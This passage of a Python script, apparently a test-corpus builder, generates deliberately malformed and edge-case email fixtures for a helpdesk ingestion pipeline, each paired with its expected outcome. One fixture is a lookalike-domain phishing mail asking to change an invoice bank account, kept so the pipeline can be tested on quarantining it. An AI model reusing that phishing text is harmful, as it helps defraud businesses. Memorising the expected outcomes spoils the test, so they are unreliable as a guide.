            notes="Same SHA-256 as 34: a no-op that still acknowledges (IMAP flag/move, LMTP 250).",
        ),
    )


@corpus_message
def malformed_mime() -> Built:
    mid = "broken-mime-0001@scanner.hollowbrook.example"
    # Declared boundary "==BOUNDARY_A==", but the last part is closed with a different one and the
    # closing delimiter is missing; the attachment's base64 is truncated and has invalid characters.
    raw = crlf(
        f"""Delivered-To: {SUPPORT}
Date: {date(15, 16, 2)}
From: Scanner Dispatch <scanner@hollowbrook.example>
To: {SUPPORT}
Subject: Scan from MFP dispatch
Message-ID: <{mid}>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="==BOUNDARY_A=="

--==BOUNDARY_A==
Content-Type: text/plain; charset=us-ascii

Scanned document attached. Device: MFP-DISPATCH-01.

--==BOUNDARY_A==
Content-Type: application/pdf; name="scan_0001.pdf"
Content-Disposition: attachment; filename="scan_0001.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcfsj6IKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyA+PgplbmRvYmoK!!
JVBERi0xLjQKJcfsj6I
--==BOUNDARY_B==--
"""
    ).encode("ascii")
    name = "36_malformed_mime.eml"
    return (
        name,
        raw,
        expect(
            name,
            "Broken MIME: the closing delimiter is missing (a different boundary closes it), the PDF's base64 is "
            "truncated and contains invalid characters.",
            message_id=mid,
            outcome="new_ticket",
            subject="Scan from MFP dispatch",
            from_address="scanner@hollowbrook.example",
            from_name="Scanner Dispatch",
            organisation="Hollowbrook Dairy",
            text_contains=["Scanned document attached. Device: MFP-DISPATCH-01."],
            malformed=True,
            raw_attached=True,
            error_note=True,
            notes="Never dropped: a ticket with the text that could be read, the raw mail attached and an error note "
            "naming the parse problems. Whether the damaged scan_0001.pdf is also attached is left to the pipeline.",
        ),
    )


@corpus_message
def malformed_headers() -> Built:
    mid = "garbage-hdr-0002@hollowbrook.example"
    # Raw 8-bit ISO-8859-1 bytes in From and Subject (no RFC 2047), an unterminated encoded-word,
    # a non-RFC date, a Content-Type with an unknown charset, and a header line without a colon
    # right before the body (the stdlib stops parsing headers there: MissingHeaderBodySeparatorDefect).
    head = (f"Delivered-To: {SUPPORT}\r\nDate: 15/11/2023 16:20\r\n").encode("ascii")
    head += b"From: J\xf6rg M\xfcller-Wei\xdf <j.mueller-weiss@baeckerei-lindenhof.example>\r\n"
    head += f"To: {SUPPORT}\r\n".encode("ascii")
    head += b"Subject: St\xf6rung Backofen =?utf-8?q?Filiale_S=C3=BCdstadt\r\n"
    head += f"Message-ID: <{mid}>\r\n".encode("ascii")
    head += b"MIME-Version: 1.0\r\n"
    head += b'Content-Type: text/plain; charset="x-unknown-8bit"\r\n'
    head += b"Content-Transfer-Encoding: 8bit\r\n"
    head += b"X-Filiale: S\xfcdstadt\r\n"
    head += b"this line is not a header at all\r\n"
    body = "\r\nDer Backofen in der Filiale Südstadt zeigt Fehler E7.\r\n".encode("latin-1")
    name = "37_malformed_headers_8bit.eml"
    return (
        name,
        head + body,
        expect(
            name,
            "Header garbage: raw 8-bit bytes in From and Subject, an unterminated encoded-word, a non-RFC Date, an "
            "unknown charset label and a header line without a colon.",
            message_id=mid,
            outcome="new_ticket",
            subject="Störung Backofen =?utf-8?q?Filiale_S=C3=BCdstadt",
            from_address="j.mueller-weiss@baeckerei-lindenhof.example",
            from_name="Jörg Müller-Weiß",
            organisation="Bäckerei Lindenhof GmbH",
            text_contains=["Der Backofen in der Filiale Südstadt zeigt Fehler E7."],
            malformed=True,
            raw_attached=True,
            error_note=True,
            notes="Expected decoding of 8-bit header bytes: UTF-8 if valid, else Windows-1252. The unterminated "
            "encoded-word stays literal. The date is unparseable: use the delivery time. The colon-less line ends the "
            "header block in the stdlib parser; a robust pipeline treats the rest as body (it may contain that line).",
        ),
    )


@corpus_message
def attachment_only() -> Built:
    mid = "scan-20231115-101500@mfp-3f.jaskolka.test"
    document = pdf("Scan 2023-11-15 10:15 MFP-3F")
    body = multipart(
        "mixed", "----=_NextPart_MFP3F_0001", [file_part(document, "application/pdf", "scan_20231115_101500.pdf")]
    )
    top = [
        *inbound(
            [received("mx1.desk.example", "mfp-3f.jaskolka.test", "198.51.100.62", 15, 10, 15, 9, "4SVQ1k0ZS1zLtW")]
        ),
        ("Date", date(15, 10, 15)),
        ("From", "mfp-3f@jaskolka.test"),
        ("To", SUPPORT),
        ("Subject", ""),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "38_attachment_only_empty_body.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Scan-to-mail from a printer: an empty Subject, no text part at all, only a PDF attachment.",
            message_id=mid,
            outcome="new_ticket",
            subject="",
            from_address="mfp-3f@jaskolka.test",
            from_name="",
            organisation="Drukarnia Jaskółka sp. z o.o.",
            text_source=None,
            text_contains=[],
            attachments=[attachment("scan_20231115_101500.pdf", "application/pdf", document)],
            notes="Ticket title and text are empty in the mail: the pipeline uses placeholders (e.g. '(no subject)', "
            "'(no text)'); the contact has no display name.",
        ),
    )


@corpus_message
def very_long_line() -> Built:
    mid = "longline-77aa@kestrel-logistics.example"
    entries = " ".join(
        f"[2023-11-15T10:{i // 60:02d}:{i % 60:02d}Z] sync job=wh3-scan-{i:04d} status=TIMEOUT;" for i in range(120)
    )
    text = "Hi, the sync log is one single line, pasted below:\n\n" + entries + " LINE-END-MARKER-7f3e\n\nJonas\n"
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example", "out.kestrel-logistics.example", "203.0.113.14", 15, 16, 40, 3, "4SVQ1k0ZL2zMuX"
                )
            ]
        ),
        ("Date", date(15, 16, 40)),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", SUPPORT),
        ("Subject", "Sync log (one long line)"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "39_very_long_line.eml"
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            f"A 7bit text line of {len(entries) + 21} characters, far over the 998-character limit of RFC 5322.",
            message_id=mid,
            outcome="new_ticket",
            subject="Sync log (one long line)",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_contains=["sync job=wh3-scan-0000 status=TIMEOUT;", "LINE-END-MARKER-7f3e"],
            notes="Accepted as is; the line must not be cut. Outbound replies quoting it must re-encode (QP).",
        ),
    )


@corpus_message
def duplicate_message_id() -> Built:
    _, original, original_expected = plain_text()
    mid = original_expected["message_id"]
    # The same mail arriving again through a backup MX: a different Received chain, and the
    # Message-ID folded onto a continuation line. Normalised, it is the id of 01_plain_text.eml.
    raw = original.replace(f"Message-ID: <{mid}>\r\n".encode(), f"Message-ID:\r\n <{mid}>\r\n".encode()).replace(
        b"Delivered-To: support@desk.example\r\n",
        b"Delivered-To: support@desk.example\r\nReceived: from mx2.desk.example (mx2.desk.example [192.0.2.11])\r\n"
        b"\tby mx1.desk.example (Postfix) with ESMTPS id 4SVQ2a0Zq9z9xZ\r\n\tfor <support@desk.example>; "
        b"Wed, 15 Nov 2023 09:20:02 +0100\r\n",
    )
    name = "40_duplicate_message_id.eml"
    return (
        name,
        raw,
        expect(
            name,
            "Same Message-ID as 01_plain_text.eml (re-delivered through a backup MX, the Message-ID header folded): "
            "different bytes, same normalised id.",
            message_id=mid,
            outcome="duplicate",
            subject=T42_SUBJECT,
            from_address="anna.verbeek@hollowbrook.example",
            from_name="Anna Verbeek",
            organisation="Hollowbrook Dairy",
            notify_sender=False,
            text_contains=["prints blank labels."],
            duplicate_of="01_plain_text.eml",
            notes="No second ticket; the delivery is still acknowledged. Same id to a different one of our mailboxes "
            "would be a legitimate CC case, not a duplicate.",
        ),
    )


@corpus_message
def signed_smime() -> Built:
    mid = "signed-5512@kestrel-logistics.example"
    signature = b"\x30\x82\x02\x10\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + deterministic_bytes("dummy p7s", 513)
    text = (
        "Hello,\n\nPlease reset the MFA token of user h.nakamura, the phone was lost.\n\nJonas Berg\nIT coordinator\n"
    )
    signed_content = text_part(text, charset="us-ascii", cte="7bit")
    sig = Part(
        [
            ("Content-Type", 'application/pkcs7-signature; name="smime.p7s"'),
            ("Content-Transfer-Encoding", "base64"),
            ("Content-Disposition", 'attachment; filename="smime.p7s"'),
            ("Content-Description", "S/MIME Cryptographic Signature"),
        ],
        b64(signature),
    )
    body = multipart(
        "signed",
        "------------ms050709080604030201000",
        [signed_content, sig],
        params=' protocol="application/pkcs7-signature"; micalg=sha-256;',
        preamble="This is a cryptographically signed message in MIME format.\n\n",
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example", "out.kestrel-logistics.example", "203.0.113.14", 15, 16, 50, 3, "4SVQ1k0ZS2zNvY"
                )
            ]
        ),
        ("Date", date(15, 16, 50)),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", SUPPORT),
        ("Subject", "Reset MFA token for h.nakamura"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "41_signed_smime.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "multipart/signed (S/MIME) with a dummy detached signature smime.p7s (not a valid PKCS#7 structure).",
            message_id=mid,
            outcome="new_ticket",
            subject="Reset MFA token for h.nakamura",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_contains=["Please reset the MFA token of user h.nakamura, the phone was lost."],
            dropped_parts=[
                {
                    "filename": "smime.p7s",
                    "content_type": "application/pkcs7-signature",
                    "reason": "detached signature, not a user attachment",
                }
            ],
            notes="The signature is not verified (and is not valid); the signed text part is the ticket text.",
        ),
    )


@corpus_message
def inline_image_only() -> Built:
    mid = "F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9@hollowbrook.example"
    shot = png(48, 32, (30, 160, 60))
    html = '<html><body><div><img src="cid:image001.png@01DA17B8.4C5D6E70" alt="image001.png"></div></body></html>\n'
    body = multipart(
        "related",
        "Apple-Mail=_9A8B7C6D-5E4F-4A3B-8C2D-1E0F9A8B7C6D",
        [
            text_part(html, "html", "us-ascii", cte="7bit"),
            file_part(shot, "image/png", "image001.png", "inline", "image001.png@01DA17B8.4C5D6E70"),
        ],
        params=' type="text/html";',
    )
    top = [
        *inbound(HOLLOWBROOK_RECEIVED),
        ("From", addr("Pieter Jansen", "p.jansen@hollowbrook.example")),
        ("Subject", "Screenshot"),
        ("Date", date(15, 17, 1)),
        ("To", SUPPORT),
        ("Message-Id", f"<{mid}>"),
        ("X-Mailer", "Orchard Phone Mail (21B101) (fictional)"),
    ]
    name = "42_inline_image_only.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Only an inline image (multipart/related: HTML with nothing but <img src=cid:...>, and the PNG).",
            message_id=mid,
            outcome="new_ticket",
            subject="Screenshot",
            from_address="p.jansen@hollowbrook.example",
            from_name="Pieter Jansen",
            organisation="Hollowbrook Dairy",
            text_source="text/html",
            text_contains=[],
            attachments=[
                attachment("image001.png", "image/png", shot, inline=True, content_id="image001.png@01DA17B8.4C5D6E70")
            ],
            notes="The text is empty after conversion; the image must still be visible on the ticket.",
        ),
    )


@corpus_message
def known_org_new_ticket() -> Built:
    mid = "20231115171544.GA4471@kumo-trading.example"
    text = "Hello,\n\nPlease create an account for our new colleague in Osaka, starting 1 December.\n\nKenji Mori\n"
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example", "mail.kumo-trading.example", "203.0.113.120", 15, 17, 15, 50, "4SVQ1k0ZK1zPwZ"
                )
            ]
        ),
        ("Date", date(15, 17, 15, 44)),
        ("From", addr("Kenji Mori", "kenji.mori@kumo-trading.example")),
        ("To", SUPPORT),
        ("Subject", "New account for Osaka colleague"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "43_known_org_new_contact.eml"
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            "First mail from a not-yet-known person whose domain belongs to a known organisation.",
            message_id=mid,
            outcome="new_ticket",
            subject="New account for Osaka colleague",
            from_address="kenji.mori@kumo-trading.example",
            from_name="Kenji Mori",
            organisation="Kumo Trading KK",
            text_contains=["Please create an account for our new colleague in Osaka"],
            notes="A contact is created in Kumo Trading KK (matched by domain); the ticket goes to the mailbox's queue.",
        ),
    )


@corpus_message
def unknown_domain_new_ticket() -> Built:
    mid = "CAHq3v5k+unknown.7788@mail.freemail.example"
    text = "Hi, I am a freelancer working for Hollowbrook. How do I get access to the portal?\n\nLena Vos\n"
    top = [
        *inbound(
            [received("mx1.desk.example", "mail.freemail.example", "192.0.2.201", 15, 17, 22, 10, "4SVQ1k0ZU1zQxA")]
        ),
        ("Date", date(15, 17, 22, 1)),
        ("From", addr("Lena Vos", "lena.vos@freemail.example")),
        ("To", SUPPORT),
        ("Subject", "Portal access"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "44_unknown_domain.eml"
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            "A sender from an unknown (freemail) domain mentioning a customer by name.",
            message_id=mid,
            outcome="new_ticket",
            subject="Portal access",
            from_address="lena.vos@freemail.example",
            from_name="Lena Vos",
            organisation=None,
            text_contains=["How do I get access to the portal?"],
            notes="Contact without organisation (no guessing from the text); the ticket lands in the unassigned queue.",
        ),
    )


@corpus_message
def exchange_new_ticket() -> Built:
    mid = "VI1PR07MB5120B1C2D3E4F5A6B7C8D9E0F1A2B3C4@VI1PR07MB5120.eurprd07.prod.mailcloud.example"
    text = "Hi,\n\nThe chat app keeps asking for my password every ten minutes since the update on Monday.\n\nRegards,\nSanne Bakker\n"
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>'
        "<!-- p.MsoNormal {margin:0cm; font-size:11.0pt; font-family:sans-serif;} --></style></head>"
        '<body lang="NL" link="#0563C1"><div class="WordSection1"><p class="MsoNormal">Hi,<o:p></o:p></p>'
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">The chat app keeps asking for my password every ten '
        'minutes since the update on Monday.<o:p></o:p></p><p class="MsoNormal">Regards,<br>Sanne Bakker<o:p></o:p></p>'
        "</div></body></html>\n"
    )
    body = multipart(
        "alternative",
        "_000_VI1PR07MB5120B1C2D3E4F5A6B7C8_",
        [text_part(text, charset="utf-8"), text_part(html, "html", "utf-8")],
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    "mail-vi1pr07.outbound.mailcloud.example",
                    "192.0.2.72",
                    15,
                    17,
                    30,
                    4,
                    "4SVQ1k0ZX1zRyB",
                )
            ]
        ),
        ("From", addr("Sanne Bakker", "sanne.bakker@hollowbrook.example")),
        ("To", addr("Tierdesk Support", SUPPORT)),
        ("Subject", "Chat app keeps asking for password"),
        ("Thread-Topic", "Chat app keeps asking for password"),
        ("Thread-Index", "AdoXv2rQ8k1m2n3o4p5q6r7s8t9u0v=="),
        ("Date", "Wed, 15 Nov 2023 16:30:00 +0000"),
        ("Message-ID", f"<{mid}>"),
        ("Accept-Language", "nl-NL, en-US"),
        ("Content-Language", "en-US"),
        ("X-MS-Has-Attach", ""),
        ("X-MS-TNEF-Correlator", ""),
        ("x-ms-publictraffictype", "Email"),
        ("x-ms-traffictypediagnostic", "VI1PR07MB5120:EE_|AM0PR07MB6411:EE_"),
        ("x-ms-exchange-senderadcheck", "1"),
        ("x-ms-exchange-antispam-relay", "0"),
        ("X-MS-Exchange-CrossTenant-originalarrivaltime", "15 Nov 2023 16:30:00.1234 (UTC)"),
        ("X-MS-Exchange-CrossTenant-fromentityheader", "Hosted"),
        ("X-MS-Exchange-CrossTenant-id", "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"),
        ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", "AM0PR07MB6411"),
        ("X-OriginatorOrg", "hollowbrook.example"),
    ]
    name = "45_exchange_online_new_ticket.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Exchange Online new mail: Thread-Index/Thread-Topic, many X-MS-Exchange-* headers, Word HTML (o:p, MsoNormal).",
            message_id=mid,
            outcome="new_ticket",
            subject="Chat app keeps asking for password",
            from_address="sanne.bakker@hollowbrook.example",
            from_name="Sanne Bakker",
            organisation="Hollowbrook Dairy",
            text_contains=["The chat app keeps asking for my password every ten minutes since the update on Monday."],
            notes="A Thread-Index alone must not thread it onto another ticket.",
        ),
    )


@corpus_message
def blocked_domain() -> Built:
    mid = "a7c3-5521@hol1owbrook.example"
    text = "Dear support,\n\nPlease change the bank account for our invoices to NL00 TEST 0123 4567 89 as of today.\n\nFinance\nHollowbrook Dairy\n"
    top = [
        *inbound(
            [received("mx1.desk.example", "vps-66.hosting.invalid", "203.0.113.66", 15, 17, 40, 2, "4SVQ1k0ZQ1zSzC")]
        ),
        (
            "Authentication-Results",
            "mx1.desk.example; spf=pass smtp.mailfrom=hol1owbrook.example; dkim=none; dmarc=none",
        ),
        ("Date", date(15, 17, 39, 50)),
        ("From", addr("Hollowbrook Finance", "finance@hol1owbrook.example")),
        ("To", SUPPORT),
        ("Subject", "Change of bank account"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "46_blocked_sender_domain.eml"
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            "From a lookalike domain (hol1owbrook.example) that Hollowbrook Dairy has blocked after a phishing report.",
            message_id=mid,
            outcome="quarantine",
            subject="Change of bank account",
            from_address="finance@hol1owbrook.example",
            from_name="Hollowbrook Finance",
            organisation=None,
            notify_sender=False,
            text_contains=["Please change the bank account for our invoices"],
            quarantine_reason="blocked_sender_domain",
            notes="Quarantined (visible, with the reason), not dropped and not answered.",
        ),
    )


@corpus_message
def own_address_loop() -> Built:
    mid = "fwdrule-0099@mail.hollowbrook.example"
    text = "Dear Anna Verbeek,\n\nTicket [TD#100042] has been updated.\n"
    top = [
        *inbound(
            [received("mx1.desk.example", "mail.hollowbrook.example", "198.51.100.23", 15, 17, 50, 2, "4SVQ1k0ZO1zT1D")]
        ),
        ("Date", date(15, 17, 50)),
        ("From", SUPPORT_FROM),
        ("To", SUPPORT),
        ("Subject", f"FW: [TD#100042] {T42_SUBJECT}"),
        ("Message-ID", f"<{mid}>"),
        ("X-Forwarded-By-Rule", "hollowbrook-all-to-desk"),
    ]
    name = "47_own_address_loop.eml"
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            "A customer's server rule sent our own notification back to us: From is our own mailbox address.",
            message_id=mid,
            outcome="quarantine",
            subject=f"FW: [TD#100042] {T42_SUBJECT}",
            from_address=SUPPORT,
            from_name="Tierdesk Support",
            organisation=None,
            notify_sender=False,
            text_contains=["Ticket [TD#100042] has been updated."],
            quarantine_reason="loop_from_own_mailbox",
            notes="Mail from one of our own mailbox addresses is a loop: quarantined, never a comment or a reply.",
        ),
    )


# --------------------------------------------------------------------------------------------------
# Output
# --------------------------------------------------------------------------------------------------


def build_all() -> tuple[dict[str, bytes], dict[str, Any]]:
    files: dict[str, bytes] = {}
    entries: list[dict[str, Any]] = []
    for builder in BUILDERS:
        name, raw, expected = builder()
        if name in files:
            raise ValueError(f"two builders write {name}")
        files[name] = raw
        entries.append(expected)
    expected_doc = {
        "schema": 1,
        "generated_by": "tests/mail/build_corpus.py",
        "conventions": CONVENTIONS,
        "fixture": FIXTURE,
        "messages": entries,
    }
    files[EXPECTED_NAME] = (json.dumps(expected_doc, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
    return files, expected_doc


def write(out_dir: Path, with_large: bool = False) -> list[Path]:
    out_dir.mkdir(parents=True, exist_ok=True)
    files, _ = build_all()
    written = []
    for name, raw in files.items():
        path = out_dir / name
        path.write_bytes(raw)
        written.append(path)
    if with_large:
        path = out_dir / LARGE_NAME
        path.write_bytes(large_attachment_message())
        written.append(path)
    return written


def load_expected(corpus_dir: Path = CORPUS_DIR) -> dict[str, Any]:
    return json.loads((corpus_dir / EXPECTED_NAME).read_text("utf-8"))


def corpus_message_bytes(name: str, corpus_dir: Path = CORPUS_DIR) -> bytes:
    """The raw bytes of a corpus message; the generated one is built in memory and checked against
    its marker."""
    path = corpus_dir / name
    if path.exists():
        return path.read_bytes()
    marker_path = corpus_dir / (name + MARKER_SUFFIX)
    marker = json.loads(marker_path.read_text("utf-8"))
    if name != LARGE_NAME:
        raise FileNotFoundError(name)
    raw = large_attachment_message()
    if len(raw) != marker["size"] or sha256(raw) != marker["sha256"]:
        raise ValueError(f"{name}: expanded bytes do not match {marker_path.name}")
    return raw


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=CORPUS_DIR)
    parser.add_argument("--with-large", action="store_true", help=f"also write {LARGE_NAME} (about 27 MiB)")
    args = parser.parse_args(argv)
    written = write(args.out, args.with_large)
    total = sum(path.stat().st_size for path in written if path.name != LARGE_NAME)
    print(f"wrote {len(written)} files to {args.out} ({total} bytes without the large message)")  # noqa: T201


if __name__ == "__main__":
    main()
